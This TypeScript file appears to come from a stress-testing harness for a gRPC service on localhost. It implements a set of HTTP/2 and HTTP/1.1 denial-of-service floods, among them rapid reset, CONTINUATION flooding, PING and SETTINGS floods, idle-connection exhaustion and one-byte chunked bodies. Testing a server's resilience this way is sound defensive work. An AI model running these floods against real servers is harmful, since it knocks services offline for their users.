/** Much of what costs the sender little. */
import { pause } from "../load/actor.ts";
import type { Attack } from "./attack.ts";
import {
  begin,
  data,
  flags,
  frame,
  grpcHeaders,
  preface,
  RawConnection,
  settings,
  types,
} from "./raw-http2.ts";
import { crowd, untilOver } from "./repeat.ts";

const ingest = grpcHeaders("/runlog.v1.IngestService/Ingest", "localhost");
const subscribe = grpcHeaders("/runlog.v1.SubscribeService/Subscribe", "localhost");
const opening = Buffer.concat([preface, settings()]);
const attackers = 8;
const connections = 3_000;
const streams = 8_000;
/** Frames of one write. */
const batch = 500;
const eight = Buffer.alloc(8);

/** Sends a batch again and again on several connections. */
function flood(
  name: string,
  what: string,
  batchOf: (round: number) => Buffer,
  count = attackers,
): Attack {
  return {
    name,
    what,
    run: (target) =>
      crowd(target, count, async (connection) => {
        await connection.write(opening);
        for (let round = 0; !target.over.aborted && !connection.isGone; round++) {
          await connection.write(batchOf(round));
        }
      }),
  };
}

const times = (count: number, one: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));
const streamOf = (round: number, index: number) => 2 * (round * batch + index) + 1;

/** All of them. */
export const floods: readonly Attack[] = [
  {
    name: "idle-connections",
    what: `${connections} connections that say nothing, or the preface and nothing else`,
    async run(target) {
      const open: RawConnection[] = [];
      for (let count = 0; count < connections && !target.over.aborted; count++) {
        const connection = await RawConnection.open(target);
        if (connection === undefined) continue;
        open.push(connection);
        if (count % 2 === 0) connection.socket.write(opening);
      }
      await pause(60_000, target.over);
      for (const connection of open) connection.close();
    },
  },
  {
    name: "connection-churn",
    what: "connections that come and go as fast as they can",
    run: (target) => crowd(target, 32, (connection) => connection.write(opening)),
  },
  {
    name: "open-streams",
    what: `${streams} calls on each of four connections that never send a message`,
    run: (target) =>
      crowd(target, 4, async (connection) => {
        await connection.write(opening);
        for (let at = 0; at < streams && !target.over.aborted; at += batch) {
          await connection.write(times(batch, (i) => begin(2 * (at + i) + 1, ingest)));
        }
        await untilOver(target, connection);
      }),
  },
  flood("resets", "calls that are begun and reset at once (rapid reset)", (round) =>
    times(batch, (index) => {
      const stream = streamOf(round, index);
      return Buffer.concat([
        begin(stream, subscribe),
        frame(types.reset, flags.none, stream, Buffer.of(0, 0, 0, 8)),
      ]);
    }),
  ),
  flood("pings", "PING frames without end", () =>
    times(batch, () => frame(types.ping, flags.none, 0, eight)),
  ),
  flood("settings", "SETTINGS frames without end", () =>
    times(batch, () => settings({ 4: 65_535 })),
  ),
  flood("window-updates", "WINDOW_UPDATE frames of one byte without end", () =>
    times(batch, () => frame(types.windowUpdate, flags.none, 0, Buffer.of(0, 0, 0, 1))),
  ),
  flood("priorities", "PRIORITY frames without end", (round) =>
    times(batch, (i) => frame(types.priority, flags.none, streamOf(round, i), Buffer.alloc(5))),
  ),
  flood("unknown-methods", "calls to methods that do not exist", (round) =>
    times(batch / 5, (i) =>
      begin(
        2 * (round * (batch / 5) + i) + 1,
        grpcHeaders("/no.Such/Method", "localhost"),
        flags.endStream,
      ),
    ),
  ),
  {
    name: "empty-data",
    what: "DATA frames without a byte, without end",
    run: (target) =>
      crowd(target, attackers, async (connection) => {
        await connection.write(Buffer.concat([opening, begin(1, ingest)]));
        const frames = times(batch, () => frame(types.data, flags.none, 1, Buffer.alloc(0)));
        while (!target.over.aborted && !connection.isGone) await connection.write(frames);
      }),
  },
  {
    name: "tiny-data",
    what: "a message of 60,000 bytes in DATA frames of one byte each",
    run: (target) =>
      crowd(target, attackers, async (connection) => {
        await connection.write(Buffer.concat([opening, begin(1, ingest)]));
        const head = Buffer.of(0, 0, 0x0f, 0x42, 0x40);
        await connection.write(data(1, Buffer.concat([head, Buffer.alloc(60_000, 1)]), 1));
        await pause(200, target.over);
      }),
  },
  {
    name: "tiny-chunks",
    what: "bodies of HTTP/1.1 in chunks of one byte each",
    run: (target) =>
      crowd(target, attackers, async (connection) => {
        const path = "/runlog.v1.RunService/CreateRun";
        const head = `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;
        await connection.write(Buffer.from(head));
        const chunks = Buffer.from("1\r\n \r\n".repeat(5_000));
        while (!target.over.aborted && !connection.isGone) await connection.write(chunks);
      }),
  },
  {
    name: "continuations",
    what: "a block of headers that never ends, in CONTINUATION frames",
    run: (target) =>
      crowd(target, attackers, async (connection) => {
        await connection.write(
          Buffer.concat([opening, frame(types.headers, flags.none, 1, Buffer.alloc(0))]),
        );
        const frames = times(batch, () =>
          frame(types.continuation, flags.none, 1, Buffer.from([0, 1, 97, 1, 98])),
        );
        while (!target.over.aborted && !connection.isGone) await connection.write(frames);
      }),
  },
];
